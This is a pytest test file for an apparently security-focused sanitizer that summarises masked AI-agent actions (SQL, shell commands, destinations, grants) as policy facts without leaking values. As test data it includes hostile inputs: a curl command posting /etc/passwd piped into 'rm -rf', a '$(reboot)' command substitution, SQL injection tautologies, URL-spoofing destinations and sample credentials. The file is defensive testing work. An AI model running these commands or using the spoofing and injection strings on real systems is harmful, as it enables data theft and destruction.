"""Facts: what a reviewer and policy still know of a masked action."""

import pytest

from countersign.model import ActionContext, Principal, Resource
from countersign.sanitize import Sanitizer
from countersign.sanitize.places import registrable
from countersign.sanitize.sql import UnreadableSqlError, read

SANITIZER = Sanitizer(internal_domains=["corp.example", "corp-exports"])


def facts(**arguments):
    context = ActionContext(
        actor=Principal(type="agent", id="a"),
        on_behalf_of=(),
        action="db.export",
        resource=Resource(type="db", id="x", owner="", attributes={"row_count": 9}),
        environment="production",
        arguments=arguments,
        reason="",
        session="",
    )
    return SANITIZER.detect(context, known=lambda _: False).to_policy()["facts"]


@pytest.mark.parametrize(
    ("count", "at_least", "bucket"),
    [
        (9, 1, "1-9"),
        (10, 10, "10-99"),
        (999, 100, "100-999"),
        (9_999, 1_000, "1k-10k"),
        (10_000, 10_000, "10k-100k"),
        (999_999, 100_000, "100k-1M"),
        (10**9, 1_000_000, "1M+"),
    ],
)
def test_counts_become_buckets(count, at_least, bucket):
    assert facts(row_count=count)["rows"] == {"at_least": at_least, "bucket": bucket}
    assert facts(size_bytes=count)["bytes"] == {"at_least": at_least, "bucket": bucket}


def test_rows_are_the_most_that_anything_says():
    assert facts(limit=5, rows=[[1]] * 40)["rows"]["at_least"] == 10
    assert facts(limit=5, customers=[{"id": 1}] * 150)["rows"]["at_least"] == 100
    assert facts(limit="2500")["rows"]["at_least"] == 1000
    assert facts(rows=[])["rows"]["unread"] == 1  # none named may well mean all


@pytest.mark.parametrize(
    ("target", "domain", "internal"),
    [
        ("https://api.corp.example/x", "corp.example", True),
        ("https://corp.example", "corp.example", True),
        ("https://notcorp.example/x", "notcorp.example", False),
        ("https://corp.example.evil.test/x", "evil.test", False),
        ("https://corp.example@evil.test/x", "evil.test", False),
        ("https://evil.test\\@corp.example/x", "unreadable", False),
        ("https://evil.test#@corp.example", "evil.test", False),
        ("https://evil.test:443/@corp.example", "evil.test", False),
        ("https://shop.acme.co.uk/x", "acme.co.uk", False),
        ("s3://corp-exports/2024/x.csv", "corp-exports", True),
        ("s3://corp-exports-evil/x.csv", "corp-exports-evil", False),
        ("partner@files.acme.test", "acme.test", False),
        ("https://corp.ex\u0430mple/x", "unreadable", False),
        ("https://cor%70.example/", "unreadable", False),
        ("https://[2001:db8::1]/", "unreadable", False),
        ("sftp.partner.test", "partner.test", False),
    ],
)
def test_a_destination_is_where_the_bytes_really_go(target, domain, internal):
    found = facts(destination=target)["destination"]
    assert (found["domain"], found["internal"]) == (domain, internal)


def test_one_foreign_destination_makes_them_all_foreign():
    both = ["https://corp.example/", "https://evil.test/"]
    assert facts(destination=both)["destination"]["internal"] is False
    nested = {"destination": {"url": "https://corp.example/"}, "webhook": "https://evil.test/"}
    assert facts(**nested)["destination"]["internal"] is False
    assert facts(destination="somewhere nice")["destination"]["domain"] == "unreadable"
    assert "destination" not in facts(destination="")


def test_registrable_domains():
    assert registrable("a.b.example.com") == "example.com"
    assert registrable("a.b.co.uk") == "b.co.uk"
    assert registrable("localhost") == "localhost"


@pytest.mark.parametrize(
    ("where", "predicate"),
    [
        ("", "none"),
        ("WHERE 1=1", "always_true"),
        ("WHERE true", "always_true"),
        ("WHERE 'a' = 'a' OR id = 3", "always_true"),
        ("WHERE id = 3 OR (1 = 1)", "always_true"),
        ("WHERE name = name", "always_true"),
        ("WHERE id = 42", "by_key"),
        ("WHERE id = 42 AND 1=1", "other"),
        ("WHERE u.user_id IN (1, 2, 3) AND active = 'y'", "by_key"),
        ("WHERE u.user_id IN (1, 2, 3) AND active", "other"),
        ("WHERE id = $1", "by_key"),
        ("WHERE id = id", "always_true"),
        ("WHERE id = other_id", "other"),
        ("WHERE NOT id = 42", "other"),
        ("WHERE id = 1 OR id = 2", "other"),
        ("WHERE id = 1 OR active", "other"),
        ("WHERE created > '2024-01-01'", "range"),
        ("WHERE created BETWEEN '2024-01-01' AND '2024-02-01'", "range"),
        ("WHERE id IN (SELECT id FROM x)", "other"),
        ("WHERE name = 'bob'", "other"),
    ],
)
def test_the_shape_of_a_predicate(where, predicate):
    assert read(f"DELETE FROM users u {where}").predicate == predicate


def test_what_a_statement_says():
    statement = read("SELECT a, b FROM sales.orders o JOIN users u ON o.uid = u.id LIMIT 50;")
    assert statement.verb == "select"
    assert statement.tables == ("sales.orders", "users")
    assert statement.limit is None, "of two tables nothing is said but their names"
    assert read("SELECT a FROM t ORDER BY b DESC LIMIT 50;").limit == 50
    assert statement.columns == ("a", "b")
    assert read("SELECT * FROM t").all_columns
    assert read("WITH x AS (DELETE FROM t RETURNING id) SELECT id FROM x").verb == "delete"
    assert read("EXPLAIN ANALYZE UPDATE t SET a = 1").verb == "update"
    assert read("SELECT 1 FROM a; DELETE FROM b").verb == "multiple"
    assert read("SELECT 1 FROM a; DELETE FROM b").predicate == "other"
    assert read("INSERT INTO t (a) VALUES ('x')").tables == ("t",)
    assert read('UPDATE "Orders" SET a = 1').tables == ("Orders",)


@pytest.mark.parametrize(
    "text",
    [
        "SELECT 'unclosed FROM t",
        "SELECT 'a\\' FROM t WHERE b = ' OR 1=1 --'",
        "SELECT 1 /*!50000 FROM secrets */",
        "SELECT 1 /* a /* b */ c */",
        "SELECT 1 --FROM t",
        "SELECT $tag$ x $tag$",
        "SELECT 1 /* open",
        "DELETE FROM t #> WHERE id = 1",
        "SELECT q'[a' FROM t WHERE b = ']'",
        "hello world",
        "",
    ],
)
def test_what_dialects_read_differently_is_not_read(text):
    with pytest.raises(UnreadableSqlError):
        read(text)


def hidden(text):
    data = text.encode()
    return [data[start:end].decode() for start, end in read(text).hidden]


def test_all_literals_and_comments_are_hidden():
    text = "SELECT a -- for Bob\nFROM t /* Eve */ WHERE b='x''y' AND c=N'z' AND d=0xFF AND e=1.5e3"
    assert hidden(text) == ["-- for Bob", "/* Eve */", "'x'", "'y'", "N'z'", "0xFF", "1.5e3"]
    assert hidden('SELECT "u"."a" FROM "t" WHERE a = "Bob"') == ['"Bob"']
    assert hidden("SELECT $$Bob$$ FROM `t`") == ["$$Bob$$"]


def test_commands_show_programs_and_options_never_values():
    shell = facts(command="sudo FOO=x curl -u bob:pw --data=@/etc/passwd https://x | rm -rf /d")
    assert shell["shell"] == {
        "program": "sudo",
        "programs": ["sudo", "curl", "rm"],
        "flags": ["--data", "-rf", "-u"],
        "reads": False,
    }
    assert facts(argv=["/usr/bin/mysql", "-pS3cret"])["shell"] == {
        "program": "mysql",
        "programs": ["mysql"],
        "flags": ["-p"],
        "reads": False,
    }
    assert facts(command="bob@x.example $(reboot)")["shell"]["programs"] == ["[OTHER]", "reboot"]


def test_grants_are_named_where_they_are_plain():
    assert facts(roles_added=["admin", "bob@x.example"], revoke="billing.reader")["grants"] == {
        "added": ["[OTHER]", "admin"],
        "removed": ["billing.reader"],
    }


def test_names_in_facts_pass_the_text_rules():
    found = facts(
        sql="SELECT a FROM ghp_a1B2c3D4e5a1B2c3D4e5a1B2c3",
        bucket="s3://AKIAIOSFODNN7EXAMPLE/x",
        role="k3j9x0q2m4v8b7n1z5c6",
    )
    assert found["sql"]["tables"] == ["[SECRET]"]
    assert found["grants"]["added"] == ["[SECRET]"]
    assert "AKIA" not in str(found).upper()


def test_facts_come_from_arguments_only():
    assert facts() == {}


def test_a_search_that_is_no_sql_is_just_text():
    assert facts(query="show me Anna's orders") == {}
    assert facts(query="delete from t")["sql"]["predicate"] == "none"


@pytest.mark.parametrize(
    ("arguments", "hidden"),
    [
        ({"argv": ["tool", "--pan=5123 2808 8708 4530", "--wait"]}, "5123 2808 8708 4530"),
        ({"argv": ["grep", "-c", "5123 2808 8708 4530", "app.log"]}, "5123 2808 8708 4530"),
        ({"argv": ["tool", "--account-holder=Javier Johnson"]}, "Javier Johnson"),
        ({"argv": ["tool", "-n", "Rose Kowalska"]}, "Rose Kowalska"),
        ({"argv": ["grep", "-c", "DE89 3704 0044 0532 0130 00"]}, "DE89 3704 0532"),
        ({"command": 'crm-cli --set phone_number="(521) 570-4080" -v'}, "(521) 570-4080"),
        ({"command": "notify --token (badger-lantern)"}, "badger-lantern"),
        ({"commands": ["5123 2808 8708 4530"]}, "5123 2808 8708 4530"),
        ({"command": "export password=x;hunter-lamp --password hunter-lamp"}, "password=x"),
    ],
)
def test_no_fact_says_what_the_mask_hides(arguments, hidden):
    said = str(facts(**arguments)["shell"])
    assert not [part for part in hidden.strip("()").replace(") ", "-").split() if part in said]


def test_a_program_that_a_hidden_value_repeats_is_still_shown():
    shell = facts(command="rm -rf /srv --password rm")["shell"]
    assert (shell["program"], shell["flags"]) == ("rm", ["--password", "-rf"])
    inner = facts(argv=["sh", "-c", "rm -rf /srv && Curl x"])["shell"]
    assert inner["programs"] == ["sh", "rm", "[OTHER]"]


def test_a_right_below_a_masked_key_is_not_told():
    assert facts(token={"roles": ["hunter.lantern"]})["grants"]["added"] == ["[OTHER]"]
